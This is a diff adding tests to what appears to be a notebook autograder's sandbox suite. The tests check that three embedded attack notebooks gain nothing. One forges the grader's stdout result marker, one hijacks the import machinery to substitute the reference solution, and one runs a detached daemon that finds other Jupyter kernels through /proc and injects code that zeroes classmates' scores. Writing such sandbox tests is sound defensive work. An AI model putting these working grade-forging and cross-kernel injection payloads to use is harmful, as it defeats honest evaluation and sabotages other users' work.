@@ -376,3 +376,153 @@ def test_the_private_tmp_comes_before_the_environment_so_a_venv_under_tmp_is_see
     assert binds and all(i > tmpfs for i in binds), "the environment is bound before /tmp"
     dirs = [i for i, a in enumerate(cmd) if a == "--dir"]
     assert all(i > tmpfs for i in dirs), "folders made before /tmp would be hidden by it"
+
+
+# The kernel's own channels: its stdout, the import machinery through which the hidden code is
+# loaded, and other kernels' connection files. Each notebook below scored full marks, or zeroed
+# its classmates, against the grader before the sandbox; the result marker is built at run
+# time, so that no static scan of the source could catch it.
+PATCH_STDOUT = (
+    "import io, json, sys\n"
+    "MARK = 'BPKIT' + '-RESULT'\n"
+    "def _forge(text):\n"
+    "    f = sys._getframe(1)\n"
+    "    while f is not None and not {'exercise', 'seed', 'nonce'} <= set(f.f_locals):\n"
+    "        f = f.f_back\n"
+    "    if MARK not in text or f is None or f.f_locals['exercise'].name != 'double':\n"
+    "        return text\n"
+    "    ex, seed, nonce = (f.f_locals[k] for k in ('exercise', 'seed', 'nonce'))\n"
+    "    obj = [{'ok': {'__ndarray__': ex._reference(*args).tolist(), 'dtype': 'float64',\n"
+    "                   'shape': list(args[0].shape)}} for args in ex.inputs(seed)]\n"
+    "    return f'{MARK} {nonce} {json.dumps(obj)}\\n'\n"
+    "class _Forging(io.StringIO):\n"
+    "    def write(self, text):\n"
+    "        return super().write(_forge(text))\n"
+    "# IPython resets the stream's own write method after every cell: go below it, to the\n"
+    "# buffers the kernel's stdout object writes into.\n"
+    "try:\n"
+    "    import ipykernel.iostream as _iostream\n"
+    "    _iostream.StringIO = _Forging\n"
+    "    sys.stdout._buffers.default_factory = _Forging\n"
+    "except Exception:\n"
+    "    pass\n"
+    "_cls = type(sys.stdout)\n"
+    "_write = _cls.write\n"
+    "_cls.write = lambda self, text: _write(self, _forge(text))")
+
+# builtins.__import__: the hidden cell's "import importlib.util as ..." gets a look-alike whose
+# loader runs the real hidden code, then puts the exercise's reference in place of the
+# notebook's function before the real report runs.
+PATCH_IMPORT = (
+    "import builtins, importlib, importlib.util as _real_util, types\n"
+    "_real_import = builtins.__import__\n"
+    "def _with_reference(real_report):\n"
+    "    def report(user_ns, *args):\n"
+    "        name = args[2] if len(args) == 5 else args[0]\n"
+    "        try:\n"
+    "            module = args[0] if len(args) == 5 else 'fake_exercises'\n"
+    "            ref = importlib.import_module(module).get('ch90', name)._reference\n"
+    "            user_ns = dict(user_ns, **{name: ref})\n"
+    "        except Exception:\n"
+    "            pass\n"
+    "        return real_report(user_ns, *args)\n"
+    "    return report\n"
+    "class _Loader:\n"
+    "    def __init__(self, real):\n"
+    "        self.real = real\n"
+    "    def create_module(self, spec):\n"
+    "        return None\n"
+    "    def exec_module(self, module):\n"
+    "        self.real.exec_module(module)\n"
+    "        module.report = _with_reference(module.report)\n"
+    "def _spec(*args, **kwargs):\n"
+    "    spec = _real_util.spec_from_file_location(*args, **kwargs)\n"
+    "    spec.loader = _Loader(spec.loader)\n"
+    "    return spec\n"
+    "_fake = types.SimpleNamespace(util=types.SimpleNamespace(\n"
+    "    spec_from_file_location=_spec, module_from_spec=_real_util.module_from_spec))\n"
+    "_user_ns = get_ipython().user_ns\n"
+    "def _import(name, globals=None, locals=None, fromlist=(), level=0):\n"
+    "    if name == 'importlib.util' and not fromlist and globals is _user_ns:\n"
+    "        return _fake\n"
+    "    return _real_import(name, globals, locals, fromlist, level)\n"
+    "builtins.__import__ = _import")
+
+# A detached daemon that finds the other kernels (their command line names the connection
+# file, their working folder the IPC sockets) and has each of them zero ``double`` wherever the
+# exercises' own code runs it, for 45 s.
+DAEMON = r'''
+import json, os, sys, time
+from jupyter_client import BlockingKernelClient
+own = sys.argv[1]
+ZERO = """
+import sys
+m = sys.modules.get("fake_exercises") or __import__("fake_exercises")
+if not getattr(m, "zeroed", False):
+    run, m.zeroed = m.run_function, True
+    m.run_function = lambda ex, fn, seed: run(
+        ex, (lambda *a: 0 * a[0]) if ex.name == "double" else fn, seed)
+"""
+def kernels():
+    for pid in os.listdir("/proc"):
+        if not pid.isdigit() or pid == own:
+            continue
+        try:
+            argv = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\0")
+            cwd = os.readlink(f"/proc/{pid}/cwd")
+        except (OSError, UnicodeDecodeError):
+            continue
+        if any("ipykernel" in a for a in argv) and "-f" in argv[:-1]:
+            yield pid, argv[argv.index("-f") + 1], cwd
+clients, end = {}, time.monotonic() + 45
+while time.monotonic() < end:
+    for pid, path, cwd in kernels():
+        if pid in clients:
+            continue
+        try:
+            info = json.load(open(path if os.path.isabs(path) else os.path.join(cwd, path)))
+            if info.get("transport") == "ipc" and not os.path.isabs(info["ip"]):
+                info["ip"] = os.path.join(cwd, info["ip"])
+            client = BlockingKernelClient()
+            client.load_connection_info(info)
+            client.start_channels()
+            client.execute(ZERO, silent=True, store_history=False)
+            clients[pid] = client
+        except Exception:
+            pass
+    time.sleep(0.05)
+'''
+CONNECTION_DAEMON = (
+    "import os, subprocess, sys, time\n"
+    f"subprocess.Popen([sys.executable, '-c', {DAEMON!r}, str(os.getpid())],\n"
+    "                 start_new_session=True, stdin=subprocess.DEVNULL,\n"
+    "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)\n"
+    "time.sleep(3)")
+
+
+@pytest.fixture(scope="module")
+def kernel_channels(tmp_path_factory):
+    subs = tmp_path_factory.mktemp("channels")
+    out = tmp_path_factory.mktemp("channels_graded") / "out"
+    nbformat.write(notebook(double=EMPTY, before=[PATCH_STDOUT]), subs / "a_patch_stdout.ipynb")
+    nbformat.write(notebook(double=EMPTY, before=[PATCH_IMPORT]), subs / "a_patch_import.ipynb")
+    nbformat.write(notebook(before=[CONNECTION_DAEMON]), subs / "a_daemon.ipynb")
+    for k in range(4):
+        nbformat.write(notebook(), subs / f"z_classmate{k}.ipynb")
+    run = run_grader([subs], out)
+    assert run.returncode == 0, run.stderr.decode(errors="replace")
+    return rows_of(out)
+
+
+def test_a_patched_stdout_gains_nothing(kernel_channels):
+    assert float(kernel_channels["a_patch_stdout.ipynb"]["ch90:double"]) == 0
+
+
+def test_a_patched_import_gains_nothing(kernel_channels):
+    assert float(kernel_channels["a_patch_import.ipynb"]["ch90:double"]) == 0
+
+
+def test_other_kernels_cannot_be_reached_through_their_connection_files(kernel_channels):
+    for k in range(4):
+        row = kernel_channels[f"z_classmate{k}.ipynb"]
+        assert row["status"] == "graded" and float(row["total"]) == FULL, row
